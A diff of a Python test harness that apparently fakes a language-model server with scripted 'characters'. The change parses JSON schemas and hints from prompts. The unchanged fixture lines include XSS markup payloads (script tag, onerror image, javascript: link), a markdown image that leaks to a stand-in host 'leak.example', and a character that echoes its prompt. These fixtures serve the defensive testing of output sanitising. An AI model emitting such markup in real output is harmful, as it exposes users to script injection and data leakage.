@@ -22,6 +22,7 @@ PERIOD = re.compile(r"(?:Period|Perioada)\W+([^“”„|]+\d{4})", re.IGNORECAS
 FUNDER = re.compile(r"(?:Funder|Finanțator)\W+([^“”„|]+)", re.IGNORECASE)
 TITLE = re.compile(r"^([^:|]+?)(?: – [^:|]*)?\s*[:|]\s*(.+)$")
 QUESTION = re.compile(r"<question>(.*?)</question>", re.DOTALL)
+HINT, SHAPE = re.compile(r'"hint":(?=\{)'), re.compile(r"JSON schema:\s*(?=\{)")
 ROMANIAN = re.compile(r"\bRomanian\b")
 WRONG_NAME, WRONG_YEAR, WRONG_MONEY = "Zoltan Fabricius", "1871", "987.654 CHF"
 """What no document of a test holds."""
@@ -44,7 +45,7 @@ class Line:
 
 def asked_for(request: Request) -> str:
     """What a request is about: `PLAN`, `WRITE`, or one sentence `AGAIN`."""
-    if "response_format" in request or "tools" in request or "guided_json" in request:
+    if "response_format" in request or "tools" in request or "one JSON object" in prompt_of(request):
         return PLAN
     roles = [message["role"] for message in request["messages"]]
     return AGAIN if "assistant" in roles[-2:] else WRITE
@@ -87,10 +88,17 @@ def right(request: Request) -> list[str]:
 
 
 def plan_of(request: Request) -> Told:
-    """A plan that leaves all open that may be left open."""
-    given = request.get("response_format", {}).get("json_schema", {}).get("schema", {})
+    """The plan that it is given as a hint; what that leaves open is left open."""
+    last = str(request["messages"][-1]["content"])
+    given = request.get("response_format", {}).get("json_schema", {}).get("schema") or _object_behind(SHAPE, last)
     told: Told = _filled(given, given.get("$defs", {})) if given else {}
-    return told
+    return told | _object_behind(HINT, last)
+
+
+def _object_behind(place: re.Pattern[str], text: str) -> Told:
+    """The JSON object that begins there; an empty one where none does."""
+    found = place.search(text)
+    return dict(json.JSONDecoder().raw_decode(text, found.end())[0]) if found else {}
 
 
 def _filled(schema: Mapping[str, Any], named: Mapping[str, Any]) -> Any:
@@ -168,6 +176,7 @@ def _mended() -> Character:
     return writes(change)
 
 
+SHAPED = {"response_format", "tools"}
 MARKUP = (
     "<img src=x onerror=window.hurt=1> [S1].", "<script>window.hurt=1</script> [S1].",
     "See [the report](javascript:window.hurt=1) [S1].", "![budget](http://leak.example/?q=1) [S1].",
@@ -208,7 +217,7 @@ CHARACTERS: Mapping[str, Callable[[], Character]] = {
     "breaks down": lambda: lambda _: refuses(500),
     "is away": lambda: lambda _: refuses(503),
     "closes at once": lambda: lambda _: Reply(closes=True),
-    "takes no schema": lambda: lambda request: refuses(400) if asked_for(request) == PLAN else writes()(request),
+    "takes no schema": lambda: lambda request: refuses(400) if SHAPED & request.keys() else writes()(request),
     "mends itself": _mended,
     "writes markup": lambda: writes(lambda _, said: [*MARKUP, *said]),
     "tells its prompt": lambda: writes(lambda request, said: [*prompt_of(request).splitlines(), *said]),
